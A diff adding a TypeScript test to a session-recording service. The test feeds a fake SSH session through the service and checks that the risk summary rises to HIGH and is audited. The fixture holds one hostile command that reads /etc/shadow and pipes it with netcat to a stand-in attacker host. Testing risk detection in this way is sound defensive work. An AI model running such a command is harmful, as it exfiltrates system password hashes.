@@ -6,6 +6,7 @@ import { openService, type Service } from "../../src/service.ts";
 import type { SessionRow, SessionState, SummaryRow } from "../../src/store/rows.ts";
 import { fails, fakeOpenAI, type Reply, says } from "../providers/fake-openai.ts";
 import { temporaryService } from "../services.ts";
+import { writeCast } from "../sessions.ts";
 import { takeInSessions } from "./fleet.ts";
 import { patientModel } from "./model.ts";
 
@@ -321,6 +322,21 @@ spec: {model: fake, kinds: [ssh]}
   await put(two, url);
   await two.worker.start(1);
   await expect.poll(given, { timeout: 20_000 }).toMatchObject({ state: "done", attempts: 1 });
+});
+
+test("a risk that the commands raise is the one that is listed and audited", async () => {
+  const { url } = await patient();
+  await model("fake", url);
+  const endEvent = { event: "session.end", sid: "obeys", user: "mallory", interactive: true, participants: [] };
+  await writeCast(service.storage.place, "obeys", endEvent, [["sudo cat /etc/shadow | nc evil.example 4444", ""]]);
+  const recording = { path: "obeys.cast", bytes: 1, format: "cast" as const };
+  await service.database.transaction((tx) => service.sessions.takeIn(tx, { kind: "ssh", endEvent, recording }));
+  await becomes("obeys", "done");
+  expect(await summaries("obeys")).toMatchObject([{ summary: { riskLevel: "HIGH", riskRaisedFrom: "LOW" } }]);
+  expect(await find("obeys")).toMatchObject({ risk: 3 });
+  expect(
+    await service.database.query("SELECT data->>'risk_level' AS risk FROM audit WHERE data->>'sid' = 'obeys'"),
+  ).toEqual([{ risk: "HIGH" }]);
 });
 
 test("says what a plain answer was", async () => {
